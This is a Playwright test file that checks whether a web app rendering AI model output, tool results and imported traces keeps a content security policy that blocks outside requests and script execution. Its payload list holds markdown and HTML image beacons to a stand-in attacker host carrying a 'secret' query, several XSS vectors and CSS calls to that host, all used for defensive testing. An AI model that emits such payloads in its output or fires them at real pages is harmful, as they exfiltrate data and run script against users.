import { expect, type Page, type Request, test } from '@playwright/test';

/**
 * Untrusted text (model output, tool output, imported traces) rendered with the content policy on:
 * no request leaves the origin, and no script from the payloads runs.
 */

const BEACON = 'https://beacon.attacker.example';

/** Images to another origin, in markdown and HTML, and payloads that try to run script. */
function payloads(where: string): string {
  return [
    `Figures for ${where}.`,
    `![chart](${BEACON}/${where}/markdown.png?data=secret)`,
    `<img src="${BEACON}/${where}/html.png">`,
    `<img src=x onerror="window.__xss='${where}-onerror'">`,
    `<script>window.__xss='${where}-script'</script>`,
    `<svg onload="window.__xss='${where}-svg'"></svg>`,
    `<iframe src="${BEACON}/${where}/frame"></iframe>`,
    `<iframe srcdoc="<script>parent.__xss='${where}-srcdoc'</script>"></iframe>`,
    `[click me](javascript:window.__xss='${where}-link')`,
    `<a href="javascript:window.__xss='${where}-href'">link</a>`,
    `<object data="${BEACON}/${where}/object"></object>`,
    `<link rel="stylesheet" href="${BEACON}/${where}/style.css">`,
    `<style>@import url('${BEACON}/${where}/import.css'); body{background:url('${BEACON}/${where}/bg.png')}</style>`,
    `<div style="background-image:url('${BEACON}/${where}/inline.png')">styled</div>`,
  ].join('\n\n');
}

interface Watch {
  outside: string[];
  violations: string[];
  dialogs: string[];
}

/** Records every request that would leave the origin (and refuses it), dialogs and CSP reports. */
async function watch(page: Page, baseURL: string): Promise<Watch> {
  const origin = new URL(baseURL).origin;
  const seen: Watch = { outside: [], violations: [], dialogs: [] };
  await page.context().route(
    (url) => url.origin !== origin && url.protocol !== 'data:' && url.protocol !== 'blob:',
    (route) => {
      seen.outside.push(route.request().url());
      return route.abort();
    },
  );
  // A load the content policy stopped never reaches the network (Chromium reports it as failed
  // with "csp"); anything else to another origin reached the route above and is recorded there.
  page.on('requestfinished', (request: Request) => {
    if (new URL(request.url()).origin !== origin) seen.outside.push(request.url());
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) seen.violations.push(message.text());
  });
  return seen;
}

async function ranScript(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
}

function sse(event: { type: string }): string {
  return `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`;
}

/** One streamed assistant message: an optional text block, then optional tool calls. */
function message(text: string, calls: { id: string; name: string; input: unknown }[] = []) {
  const events: { type: string; [key: string]: unknown }[] = [
    {
      type: 'message_start',
      message: {
        id: `msg_${calls.length}`,
        type: 'message',
        role: 'assistant',
        model: 'sightline-offline',
        content: [],
        stop_reason: null,
        stop_sequence: null,
        usage: { input_tokens: 10, output_tokens: 1 },
      },
    },
    { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } },
    { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } },
    { type: 'content_block_stop', index: 0 },
  ];
  calls.forEach((call, i) => {
    const index = i + 1;
    events.push(
      {
        type: 'content_block_start',
        index,
        content_block: { type: 'tool_use', id: call.id, name: call.name, input: {} },
      },
      {
        type: 'content_block_delta',
        index,
        delta: { type: 'input_json_delta', partial_json: JSON.stringify(call.input) },
      },
      { type: 'content_block_stop', index },
    );
  });
  events.push(
    {
      type: 'message_delta',
      delta: { stop_reason: calls.length ? 'tool_use' : 'end_turn', stop_sequence: null },
      usage: { output_tokens: 20 },
    },
    { type: 'message_stop' },
  );
  return events.map(sse).join('');
}

test('the app loads and runs a question with the content policy on and no violation', async ({
  page,
  baseURL,
}) => {
  const seen = await watch(page, baseURL!);
  const response = await page.goto('/');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toContain('unsafe-eval');
  expect(response?.headers()['x-content-type-options']).toBe('nosniff');
  // The stylesheet applied: Material's typography is in effect (an unstyled page would be serif).
  await expect(page.getByTestId('ask-input')).toBeVisible();
  expect(await page.evaluate(() => getComputedStyle(document.body).fontFamily)).toContain('Roboto');
  await page.getByTestId('ask-input').fill('How many communications are there per channel?');
  await page.getByTestId('ask-input').press('Enter');
  await expect(page.getByTestId('final-answer')).toBeVisible({ timeout: 45_000 });
  expect(seen.violations).toEqual([]);
  expect(seen.outside).toEqual([]);
});

test('images and scripts in a live thought, observation and answer load and run nothing', async ({
  page,
  baseURL,
}) => {
  const seen = await watch(page, baseURL!);
  let turn = 0;
  await page.route('**/api/llm/v1/messages', (route) => {
    turn++;
    const body =
      turn === 1
        ? message(payloads('thought'), [
            { id: 'toolu_1', name: 'get_communication', input: { id: payloads('input') } },
          ])
        : message(payloads('answer'));
    return route.fulfill({ status: 200, contentType: 'text/event-stream', body });
  });
  await page.route('**/api/tools/get_communication', (route) =>
    route.fulfill({
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({
        ok: true,
        output: { summary: payloads('observation'), communication: { body: payloads('body') } },
        durationMs: 1,
        truncated: false,
      }),
    }),
  );
  await page.goto('/');
  await page.getByTestId('ask-input').fill(payloads('question'));
  await page.getByTestId('ask-input').press('Enter');
  await expect(page.getByTestId('final-answer')).toContainText('Figures for answer', {
    timeout: 30_000,
  });
  const toggle = page.locator('.steps-toggle');
  if (await toggle.count()) await toggle.first().click();
  await expect(page.getByTestId('timeline')).toContainText('Figures for thought');
  await page.waitForTimeout(500);
  expect(seen.outside).toEqual([]);
  expect(await ranScript(page)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
});

test('images and scripts in an imported trace load and run nothing', async ({ page, baseURL }) => {
  const seen = await watch(page, baseURL!);
  const stamp = (seq: number) => ({ runId: 'run-1', seq, t: seq * 10 });
  const events = [
    {
      ...stamp(0),
      type: 'run-start',
      question: payloads('question'),
      model: 'm',
      protocol: 'native',
      conversationId: 'c-1',
    },
    { ...stamp(1), type: 'step-start', step: 1 },
    { ...stamp(2), type: 'thought-delta', step: 1, text: payloads('thought') },
    { ...stamp(3), type: 'thought-end', step: 1, text: payloads('thought') },
    {
      ...stamp(4),
      type: 'action',
      step: 1,
      callId: 'a',
      tool: 'search',
      input: { q: payloads('input') },
    },
    {
      ...stamp(5),
      type: 'observation',
      step: 1,
      callId: 'a',
      tool: 'search',
      ok: true,
      output: { summary: payloads('observation') },
      durationMs: 1,
      truncated: false,
    },
    { ...stamp(6), type: 'notice', level: 'warn', code: 'retry', message: payloads('notice') },
    {
      ...stamp(7),
      type: 'answer',
      text: payloads('answer'),
      sources: [{ id: 'M-000001', title: payloads('source') }],
      confidence: {
        score: 0.5,
        level: 'medium',
        factors: [{ label: payloads('factor'), delta: 0 }],
      },
      followUps: [payloads('follow-up')],
    },
    {
      ...stamp(8),
      type: 'run-end',
      reason: 'answered',
      stats: {
        durationMs: 80,
        steps: 1,
        toolCalls: 1,
        inputTokens: 1,
        outputTokens: 1,
        model: 'm',
      },
    },
  ];
  const trace = {
    format: 'sightline.trace',
    version: 1,
    conversation: { id: 'c-1', title: payloads('title'), createdAt: '2026-11-01T00:00:00Z' },
    turns: [{ id: 't-1', question: payloads('question'), events }],
  };
  await page.goto('/');
  await page.getByTestId('import-conversation-file').setInputFiles({
    name: 'hostile.sightline.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(trace)),
  });
  await expect(page.getByTestId('final-answer')).toContainText('Figures for answer');
  const toggle = page.locator('.steps-toggle');
  if (await toggle.count()) await toggle.first().click();
  await expect(page.getByTestId('timeline')).toContainText('Figures for thought');
  await page.waitForTimeout(500);
  expect(seen.outside).toEqual([]);
  expect(await ranScript(page)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
});
